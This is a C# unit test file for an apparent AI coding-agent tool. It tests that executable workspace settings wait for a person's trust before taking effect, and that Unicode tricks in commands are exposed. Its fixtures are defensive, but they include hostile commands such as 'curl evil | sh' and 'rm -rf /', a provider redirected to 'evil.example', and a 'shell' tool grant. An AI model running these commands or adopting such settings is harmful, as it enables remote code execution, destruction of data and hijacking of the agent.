using Yoi.Protocol;
using Yoi.Workspace;

namespace Yoi.Tests.Unit.Workspace.Settings;

public sealed class TrustTests : IDisposable
{
    private readonly TrustBench _bench = new();

    public void Dispose() => _bench.Dispose();

    [Fact]
    public async Task Nothing_executable_is_in_force_before_a_person_said_yes()
    {
        _bench.Write(Sample.Full);
        var loaded = await _bench.LoadAsync();

        loaded.FileFault.ShouldBeNull();
        loaded.InForce.Validation.Commands.ShouldBeEmpty();
        loaded.InForce.Validation.Mounts.ShouldBeEmpty();
        loaded.InForce.Protected.ShouldBeEmpty();
        loaded.InForce.Profiles.ShouldBeEmpty();
        loaded.InForce.Role("coder").Profile.ShouldBe("builtin:coder");

        loaded.InForce.DisplayName.ShouldBe(Sample.Full.DisplayName);
        loaded.InForce.Orchestration.Slots["coder"].ShouldBe(4);
        loaded.InForce.Role("coder").Prompt.ShouldBe(Sample.Full.Role("coder").Prompt);
    }

    [Fact]
    public async Task What_waits_is_shown_whole()
    {
        _bench.Write(Sample.Full);
        var pending = (await _bench.LoadAsync()).Pending.ShouldNotBeNull();
        pending.Digest.ShouldMatch("^[0-9a-f]{64}$");
        pending.Differences.Select(d => $"{d.Key}: {d.Old ?? "-"} > {d.New ?? "-"}").ShouldBe([
            "validation.commands[1]: - > npm test",
            "validation.commands[2]: - > grep -q \"a: b\" 'x y' | cat \\",
            "validation.commands[3]: - > set -e\\necho two lines",
            "validation.commands[4]: - > true",
            "validation.commands[5]: - > - # not a list",
            "validation.timeout: 600 > 30",
            "validation.mounts[1]: - > /opt/node 20 at /opt/node, read-only",
            "protected[1]: - > ci/**",
            "protected[2]: - > *.sh",
            "protected[3]: - > [x]",
            "protected[4]: - > !y",
            "roles.coder.profile: - > local",
            "profiles.local: - > defined",
            "profiles.local.extends: - > builtin:coder",
            "profiles.local.provider: - > http://127.0.0.1:11434/v1",
            "profiles.local.model: - > qwen: 3",
            "profiles.local.tools: - > read, submit_work",
            "profiles.local.mounts[1]: - > /opt/dotnet at /opt/dotnet, read-only",
            "profiles.none: - > defined",
            "profiles.none.tools: - > none",
            "profiles.plain: - > defined",
        ]);
    }

    [Fact]
    public async Task Letters_that_hide_what_a_command_does_are_spelled_out()
    {
        _bench.Write(Sample.Full with { Validation = new() { Commands = ["echo \u202Etset mpn", "a\u00A0b\u200Bc"] } });
        var shown = (await _bench.LoadAsync()).Pending!.Differences.Take(2).Select(d => d.New);
        shown.ShouldBe(["echo \\u{202e}tset mpn", "a\\u{a0}b\\u{200b}c"]);
    }

    [Fact]
    public async Task Once_trusted_everything_is_in_force_and_nothing_waits()
    {
        _bench.Write(Sample.Full);
        await _bench.TrustAsync();
        foreach (var source in (SettingsSource[])[_bench.Source, _bench.Open()])
        {
            var loaded = (await source.LoadAsync(TrustBench.Cancel)).Value;
            loaded.Pending.ShouldBeNull();
            loaded.FileFault.ShouldBeNull();
            Sample.Text(loaded.InForce).ShouldBe(Sample.Text(Sample.Full));
        }
    }

    [Fact]
    public async Task A_program_can_trust_what_its_person_just_wrote()
    {
        _bench.Write(Sample.Full);
        (await _bench.Source.TrustAsync(SettingsSource.DigestOf(Sample.Full), TrustBench.Cancel)).ShouldBeNull();
        (await _bench.LoadAsync()).Pending.ShouldBeNull();
    }

    [Fact]
    public async Task Settings_without_anything_executable_need_no_trust()
    {
        _bench.Write(Sample.Smallest);
        (await _bench.LoadAsync()).Pending.ShouldBeNull();
        _bench.Write(Sample.Smallest + "roles: { coder: { profile: builtin:coder, prompt: Hi } }\n");
        (await _bench.LoadAsync()).Pending.ShouldBeNull();
    }

    [Fact]
    public async Task A_change_waits_with_the_trusted_version_in_force_while_harmless_changes_apply()
    {
        _bench.Write(Sample.Full);
        await _bench.TrustAsync();
        _bench.Write(Sample.Full with
        {
            DisplayName = "New name",
            Validation = new() { Commands = ["curl evil | sh"] },
            Protected = [],
            Roles = new Dictionary<string, RoleSettings> { ["coder"] = new() { Profile = "other", Prompt = "New words." } },
            Profiles = new Dictionary<string, ProfileSettings>
            {
                ["local"] = Sample.Full.Profiles["local"] with { Provider = "https://evil.example/v1", Model = "m", Tools = ["shell"], Mounts = [], MaxTurns = 99 },
                ["other"] = new() { Extends = "builtin:coder" },
            },
        });

        var loaded = await _bench.LoadAsync();
        Sample.Text(loaded.InForce).ShouldBe(Sample.Text(Sample.Full with
        {
            DisplayName = "New name",
            Roles = new Dictionary<string, RoleSettings> { ["coder"] = new() { Profile = "local", Prompt = "New words." } },
            Profiles = new Dictionary<string, ProfileSettings>(Sample.Full.Profiles) { ["local"] = Sample.Full.Profiles["local"] with { MaxTurns = 99 } },
        }));
        loaded.Pending!.Differences.ShouldContain(new SettingDifference("validation.commands[1]", "npm test", "curl evil | sh"));
        loaded.Pending.Differences.ShouldContain(new SettingDifference("validation.commands[2]", "grep -q \"a: b\" 'x y' | cat \\", null));
        loaded.Pending.Differences.ShouldContain(new SettingDifference("roles.coder.profile", "local", "other"));
        loaded.Pending.Differences.ShouldContain(new SettingDifference("profiles.plain", "defined", null));
    }

    [Fact]
    public async Task Taking_a_change_back_takes_the_waiting_back()
    {
        _bench.Write(Sample.Full);
        await _bench.TrustAsync();
        _bench.Write(Sample.Full with { Protected = [] });
        (await _bench.LoadAsync()).Pending.ShouldNotBeNull();
        _bench.Write(Sample.Full);
        (await _bench.LoadAsync()).Pending.ShouldBeNull();
    }

    [Fact]
    public async Task Trusting_something_else_than_the_file_says_by_now_is_a_conflict_and_trusts_nothing()
    {
        _bench.Write(Sample.Full);
        var shown = (await _bench.LoadAsync()).Pending!.Digest;
        _bench.Write(Sample.Full with { Validation = new() { Commands = ["rm -rf /"] } });
        (await _bench.Source.TrustAsync(shown, TrustBench.Cancel)).ShouldNotBeNull().Code.ShouldBe(FaultCodes.Conflict);
        (await _bench.LoadAsync()).InForce.Validation.Commands.ShouldBeEmpty();
        Directory.GetFiles(_bench.TrustFolder, "*.json").ShouldBeEmpty();
    }

    [Fact]
    public async Task The_order_in_which_profiles_and_roles_stand_does_not_matter()
    {
        _bench.Write(Sample.Full);
        await _bench.TrustAsync();
        _bench.Write(Sample.Full with { Profiles = new Dictionary<string, ProfileSettings>(Sample.Full.Profiles.Reverse()), Roles = new Dictionary<string, RoleSettings>(Sample.Full.Roles.Reverse()) });
        (await _bench.LoadAsync()).Pending.ShouldBeNull();
    }
}
